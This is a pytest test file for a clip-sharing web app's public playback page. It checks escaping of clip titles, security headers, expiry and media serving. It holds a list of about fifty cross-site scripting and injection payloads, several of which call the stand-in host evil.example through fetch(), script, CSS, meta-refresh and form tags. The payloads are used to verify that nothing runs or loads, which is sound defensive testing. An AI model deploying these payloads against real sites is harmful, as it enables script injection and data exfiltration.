"""The page that plays a shared clip, whatever its clip and its source are called."""

from __future__ import annotations

import dataclasses
import re
from collections.abc import Iterator
from fractions import Fraction
from html.parser import HTMLParser
from itertools import cycle, islice
from pathlib import Path

import httpx
import pytest

from fastclip_desktop.api.server_settings import ServerSettings
from fastclip_desktop.domain.clip import Clip
from fastclip_desktop.domain.policy import LOCAL
from fastclip_desktop.domain.progress import Reporter
from fastclip_desktop.domain.stage import StageRequest
from tests import chromium
from tests.api_site import CLIP, URL, ApiSite, api_site
from tests.unit.engine.small_jobs import TALK, SetClock

_RUN = "window.ran=1;alert(1);fetch('http://evil.example/ran')"

PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f'"><img src=x onerror="{_RUN}">',
    f'"><img src=http://evil.example/x onload="{_RUN}">',
    f"<svg/onload={_RUN}>",
    f"<svg><script href=http://evil.example/x.js></script><animate onbegin={_RUN}>",
    f'<iframe srcdoc="<script>{_RUN}</script>">',
    f"<iframe src=javascript:{_RUN}>",
    f'" autofocus onfocus="{_RUN}" tabindex="0',
    f"<a href=javascript:{_RUN}>x</a>",
    f"<details open ontoggle={_RUN}>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=preconnect href=http://evil.example>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>*{background:url(http://evil.example/x)}</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><button autofocus>x</button></form>",
    "<object data=http://evil.example/x.swf></object>",
    "<embed src=http://evil.example/x>",
    "<video src=http://evil.example/x poster=http://evil.example/y>",
    "<picture><source srcset=http://evil.example/x><img></picture>",
    "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<!--",
    "<![CDATA[",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\u200bscript>alert(1)</script>",
    "\u202egpj.exe\u202c <script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "' onmouseover=alert(1) '",
    "`-alert(1)-`",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "javascript:alert(1)//",
    "\ud83d half a face <b>bold</b>",
    "<input type=image src=http://evil.example/x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<html manifest=http://evil.example/x>",
    "<marquee onstart=alert(1)>x",
    "\U0001d54b\U0001d55a <img/src/onerror=alert(1)>",
)
TITLES = (*PAYLOADS, *(f"A talk {payload[::-1]} {payload}" for payload in PAYLOADS))


@pytest.fixture
def site(tmp_path: Path) -> Iterator[ApiSite]:
    with api_site(tmp_path) as site:
        yield site


def a_clip(site: ApiSite, form: str = "mp4") -> Clip:
    job = site.made({**CLIP, "format": form})
    (clip,) = [clip for clip in site.engine.library.find().clips if clip.job == job["job_id"]]
    return clip


def page_of(site: ApiSite, clip_id: str) -> httpx.Response:
    with site.stranger as stranger:
        return stranger.get(f"/c/{clip_id}")


class Elements(HTMLParser):
    """The elements of a page with their attributes, in order."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def of(self, tag: str) -> dict[str, str | None]:
        (attributes,) = [attributes for name, attributes in self.found if name == tag]
        return attributes


@pytest.mark.sampled(2)
@pytest.mark.parametrize(
    ("form", "player", "kind"),
    [("mp4", "video", "video/mp4"), ("webm", "video", "video/webm"), ("gif", "img", "image/gif")]
    + [(form, "audio", f"audio/{kind}") for form, kind in {"mp3": "mpeg", "m4a": "mp4", "flac": "flac"}.items()],
)
def test_a_page_plays_its_clip_and_lets_it_be_kept(site: ApiSite, form: str, player: str, kind: str) -> None:
    clip = a_clip(site, form)
    answer = page_of(site, clip.id)
    assert (answer.status_code, answer.headers["content-type"]) == (200, "text/html; charset=utf-8")
    elements = Elements(answer.text)
    with site.stranger as stranger:
        played = stranger.get(str(elements.of(player)["src"]))
        kept = stranger.get(str(elements.of("a")["href"]))
    assert (played.status_code, played.content, played.headers["content-type"]) == (200, b"clip", kind)
    assert played.headers["content-disposition"].startswith("inline")
    assert (kept.content, kept.headers["content-disposition"].partition(";")[0]) == (b"clip", "attachment")


def test_a_page_says_what_the_clip_is(site: ApiSite) -> None:
    clip = a_clip(site)
    site.http.patch(f"/v1/clips/{clip.id}", json={"name": "Fish & chips"})
    page = page_of(site, clip.id).text
    assert "<title>Fish &amp; chips – FastClip</title>" in page
    assert '<h1 dir="auto">Fish &amp; chips</h1>' in page
    assert "<p>1:00 · MP4 · 4 bytes</p>" in page
    assert "<p>From <bdi>My: talk?</bdi></p>" in page
    assert "<p>Here until <time" in page
    site.http.post(f"/v1/clips/{clip.id}/pin")
    assert "Here until" not in page_of(site, clip.id).text


def test_a_page_is_kept_by_nobody_and_loads_nothing_of_others(site: ApiSite) -> None:
    headers = page_of(site, a_clip(site).id).headers
    policy = dict(part.strip().partition(" ")[::2] for part in headers["content-security-policy"].split(";"))
    assert re.fullmatch(r"'sha256-[A-Za-z0-9+/]{43}='", policy.pop("style-src"))
    assert policy == {
        "default-src": "'none'",
        "media-src": "'self'",
        "img-src": "'self'",
        "base-uri": "'none'",
        "form-action": "'none'",
        "frame-ancestors": "'none'",
    }
    assert headers["cache-control"] == "no-store"
    assert headers["referrer-policy"] == "no-referrer"
    assert headers["x-content-type-options"] == "nosniff"


def test_an_expired_clip_has_a_page_that_says_so(tmp_path: Path) -> None:
    clock = SetClock()
    with api_site(tmp_path, clock=clock) as site:
        clip = a_clip(site)
        assert page_of(site, clip.id).status_code == 200
        clock.let_pass(LOCAL.clip_lifetime + 1)
        answer = page_of(site, clip.id)
    assert answer.status_code == 404
    assert "This clip is not here" in answer.text
    assert "content-security-policy" in answer.headers


def test_no_title_adds_an_element_to_the_page(tmp_path: Path) -> None:
    titles = cycle(TITLES)

    def named(_: StageRequest[object], __: Reporter) -> object:
        return dataclasses.replace(TALK, title=next(titles), duration=Fraction(3700))

    plain = [("html", 1), ("head", 0), ("meta", 1), ("title", 0), ("meta", 2), ("style", 0), ("body", 0), ("main", 0)]
    content = [("video", 6), ("div", 1), ("div", 1), ("h1", 1), ("p", 0), ("p", 0), ("bdi", 0), ("p", 0), ("time", 1)]
    with api_site(tmp_path, _patient(), ResolveSource=named) as site:
        for title in islice(cycle(TITLES), 20):
            clip = a_clip(site)
            name = title.encode(errors="ignore").decode()
            site.engine.library.rename(clip.id, name[: LOCAL.max_name_length], LOCAL)
            found = [(tag, len(attributes)) for tag, attributes in Elements(page_of(site, clip.id).text).found]
            assert found == [*plain, *content, ("a", 1)]


@pytest.mark.slow
@pytest.mark.skipif(chromium.PROGRAM is None, reason="there is no Chromium here")
def test_a_hundred_hostile_titles_run_nothing_and_fetch_nothing_from_elsewhere(tmp_path: Path) -> None:
    titles = iter(TITLES)

    def named(_: StageRequest[object], __: Reporter) -> object:
        return dataclasses.replace(TALK, title=next(titles))

    assert len(set(TITLES)) == 100
    with (
        api_site(tmp_path / "site", _patient(), ResolveSource=named) as site,
        chromium.chromium(tmp_path / "profile") as page,
    ):
        page.open(f"data:text/html,<title>x</title><script>{_RUN}</script>")
        assert (page.evaluate("window.ran"), page.dialogs) == (1, ["1"])  # it would be seen
        assert "http://evil.example/ran" in page.requests
        page.dialogs.clear()
        for title in TITLES:
            clip = a_clip(site)
            name = title.encode(errors="ignore").decode()[: LOCAL.max_name_length]
            site.engine.library.rename(clip.id, name, LOCAL)
            page.requests.clear()
            page.open(f"{site.server.address}/c/{clip.id}")
            assert page.evaluate("window.ran ?? null") is None
            assert page.evaluate("document.scripts.length + document.querySelectorAll('iframe, object').length") == 0
            assert page.evaluate("document.body.querySelectorAll('*').length") == 11
            assert page.evaluate("location.pathname") == f"/c/{clip.id}"
            shown = page.evaluate("document.querySelector('h1').textContent")
            assert shown == " ".join(name.split()).replace("\0", "")
            elsewhere = [
                url for url in page.requests if not url.startswith((site.server.address + "/", "data:image/svg+xml"))
            ]
            assert elsewhere == []  # the player's own buttons come as data
        assert page.dialogs == []


def _patient() -> ServerSettings:
    return ServerSettings(dataclasses.replace(LOCAL, requests_a_minute=100_000))


def test_a_page_needs_no_name_that_the_server_has_for_itself(site: ApiSite) -> None:
    clip = a_clip(site)
    page = page_of(site, clip.id).text
    assert site.server.address not in page
    assert URL not in page
